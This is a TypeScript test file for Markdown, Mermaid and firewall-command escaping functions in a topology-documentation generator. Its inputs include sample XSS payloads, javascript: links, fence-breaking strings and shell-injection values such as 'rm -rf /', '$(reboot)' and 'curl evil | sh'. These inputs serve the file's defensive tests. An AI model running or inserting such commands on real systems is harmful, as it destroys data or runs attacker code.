import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { parseTopology } from '../../src/model/parse-topology.ts';
import { mdCell, mdCode, mdFence, mdProse, mermaidText } from '../../src/views/escape.ts';
import { iptablesCommands, shellComment, shellWord, ufwCommands } from '../../src/views/markdown/firewall-commands.ts';
import { generateSystem } from '../../src/views/generate.ts';
import { REPO_ROOT } from '../helpers/cli.ts';

const HOSTILE = 'Evil | name `tick` <script>alert(1)</script> [x](javascript:y) # *b* "q" ;';

test('mermaidText leaves no character Mermaid treats as syntax', () => {
  const out = mermaidText(`${HOSTILE}\nsecond line {brace} (paren)`);
  assert.doesNotMatch(out, /[|`<>"[\](){}\n]/);
  assert.ok(!out.includes('<script>'));
  assert.ok(out.includes('#lt;script#gt;'));
  // Every `;` left is the end of an entity.
  assert.ok(out.split(';').slice(0, -1).every((part) => /#\w+$/.test(part)));
});

test('mdCell and mdCode keep a table row to its columns', () => {
  const row = `| ${mdCell(HOSTILE)} | ${mdCode('a|b`c')} |`;
  const unescapedPipes = row.replace(/\\\|/g, '').split('|').length - 1;
  assert.equal(unescapedPipes, 3);
  assert.ok(!mdCell(HOSTILE).includes('<script>'));
  assert.equal(mdCode('a`b'), '``a`b``');
});

test('hostile topology strings never reach the Markdown views as markup', () => {
  const text = readFileSync(path.join(REPO_ROOT, 'tests/fixtures/topologies/minimal.yaml'), 'utf8')
    .replace('description: One app behind Traefik with a database.', `description: ${JSON.stringify(HOSTILE)}`)
    .replace('    technology: Fastify', `    technology: ${JSON.stringify(HOSTILE)}\n    name: ${JSON.stringify(HOSTILE)}`);
  const parsed = parseTopology(text, 'hostile.yaml');
  assert.ok(parsed.topology, JSON.stringify(parsed.diagnostics));
  /** Separators that start a new cell: pipes neither backslash-escaped nor inside inline code. */
  const cellCount = (line: string) => line.replace(/\\\|/g, '').replace(/(`+)(?:(?!\1).)*\1/g, '').split('|').length;
  for (const f of generateSystem(parsed.topology!)) {
    if (f.kind === 'ascii') {
      // Text diagrams keep user text as written; they reach Markdown only inside a ```text fence,
      // which no line of theirs may close.
      assert.doesNotMatch(f.content, /^ {0,3}(`{3,}|~{3,})/m, `${f.file} has a line that would close a code fence`);
      continue;
    }
    // Fenced code blocks (the embedded text diagrams) are shown literally, never as markup.
    const markdown = f.content.replace(/^```text\n[\s\S]*?^```$/gm, '');
    assert.ok(!markdown.includes('<script>'), `${f.file} contains raw <script>`);
    let header: number | undefined;
    for (const line of markdown.split('\n')) {
      if (!line.startsWith('| ')) {
        header = undefined;
        continue;
      }
      if (header === undefined) header = cellCount(line);
      else assert.equal(cellCount(line), header, `${f.file}: row has extra cells: ${line}`);
    }
  }
  const readme = generateSystem(parsed.topology!).find((f) => f.name === 'readme')!;
  assert.ok(readme.content.includes('Evil \\| name \\`tick\\` &lt;script&gt;'));
});

test('Markdown prose keeps links but not ones that run code', () => {
  assert.equal(mdProse('see [docs](https://example.com)'), 'see [docs](https://example.com)');
  assert.equal(mdProse('[x](javascript:alert(1)) [y]( VBScript:x) [z](data:text/html,x)'), '[x](#unsafe-link:alert(1)) [y]( #unsafe-link:x) [z](#unsafe-link:text/html,x)');
  assert.equal(mdProse('[ref]: javascript:alert(1)'), '[ref]: #unsafe-link:alert(1)');
});

test('a fenced block cannot be closed by its content', () => {
  assert.equal(mdFence('a', 'text'), '```text\na\n```');
  assert.equal(mdFence('```\n<script>', 'text'), '````text\n```\n<script>\n````');
});

test('firewall commands quote topology text as shell words and keep comments on one line', () => {
  assert.equal(shellWord('203.0.113.0/24'), '203.0.113.0/24');
  assert.equal(shellWord("1.2.3.4; rm -rf / #'"), `'1.2.3.4; rm -rf / #'\\'''`);
  assert.equal(shellComment('Allow\nrm -rf /\r\n'), 'Allow rm -rf / ');
  const fw = { kind: 'ufw', defaultIncoming: 'deny', defaultOutgoing: 'allow', rules: [{ action: 'allow', direction: 'in', port: 22, protocol: 'tcp', from: '$(reboot)', description: 'SSH\ncurl evil | sh' }] } as unknown as Parameters<typeof ufwCommands>[0];
  for (const line of [...ufwCommands(fw), ...iptablesCommands(fw)]) {
    assert.ok(!line.includes('\n'));
    if (!line.startsWith('#')) assert.ok(!/[^']\$\(reboot\)/.test(line), line);
  }
});
